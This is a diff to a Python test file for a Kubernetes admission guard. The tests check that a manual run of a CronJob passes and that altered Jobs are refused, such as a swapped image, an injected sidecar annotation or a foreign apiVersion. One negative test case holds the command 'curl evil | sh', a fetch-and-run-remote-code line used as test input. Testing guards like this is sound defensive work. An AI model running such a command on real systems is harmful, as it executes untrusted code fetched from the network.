@@ -173,8 +173,20 @@ def _cronjob_run(image: str, *, uid: str = "uid-1", **container: Any) -> tuple[d
     cron["metadata"]["uid"] = "uid-1"
     run = shaped("Job", {"report": image}, name="nightly-now")
     run["spec"]["template"]["spec"]["containers"][0].update(container)
-    run["metadata"]["ownerReferences"] = [{"kind": "CronJob", "name": "nightly", "uid": uid, "controller": True}]
+    run["metadata"]["ownerReferences"] = [
+        {"apiVersion": "batch/v1", "kind": "CronJob", "name": "nightly", "uid": uid, "controller": True}
+    ]
     return cron, run
+
+
+def _with(obj: dict[str, Any], path: list[Any], value: Any) -> dict[str, Any]:
+    """A copy of ``obj`` with ``value`` at ``path``."""
+    changed = copy.deepcopy(obj)
+    inner = changed
+    for key in path[:-1]:
+        inner = inner[key]
+    inner[path[-1]] = value
+    return changed
 
 
 def _judge_run(cron: dict[str, Any], run: dict[str, Any], username: str = "alice") -> imageguard.Verdict:
@@ -196,6 +208,8 @@ def _judge_run(cron: dict[str, Any], run: dict[str, Any], username: str = "alice
 def test_a_job_that_runs_its_cronjobs_template_as_it_is_is_a_manual_run_not_a_new_workload() -> None:
     """``kubectl create job --from=cronjob/nightly``: it runs what the schedule would, so no break-glass."""
     cron, run = _cronjob_run("report:1", resources={})  # kubectl sends empty fields the CronJob does not hold
+    run["spec"]["template"]["metadata"] = {"labels": {"batch.kubernetes.io/job-name": "nightly-now"}}  # the API's
+    run["spec"]["parallelism"] = 1  # defaulted on the Job, not in the CronJob's template
     assert imageguard.launching_cronjob(run) == "nightly"
     manual = _judge_run(cron, run)
     assert manual.allowed and manual.reason == "CronJobRun" and not manual.emergency
@@ -204,6 +218,9 @@ def test_a_job_that_runs_its_cronjobs_template_as_it_is_is_a_manual_run_not_a_ne
         _cronjob_run("report:evil")[1],
         _cronjob_run("report:1", command=["sh", "-c", "curl evil | sh"])[1],  # same image, another program
         _cronjob_run("report:1", uid="uid-2")[1],  # a CronJob of that name, but not this one
+        _with(run, ["metadata", "ownerReferences", 0, "apiVersion"], "example.com/v1"),  # another kind CronJob
+        _with(run, ["spec", "template", "metadata", "annotations"], {"sidecar.istio.io/proxyImage": "evil:1"}),
+        _with(run, ["spec", "template", "metadata", "labels"], {"istio.io/rev": "canary"}),  # another injector
     ):
         refused = _judge_run(cron, changed)
         assert not refused.allowed and refused.reason == "NewWorkloadInGatedNamespace"
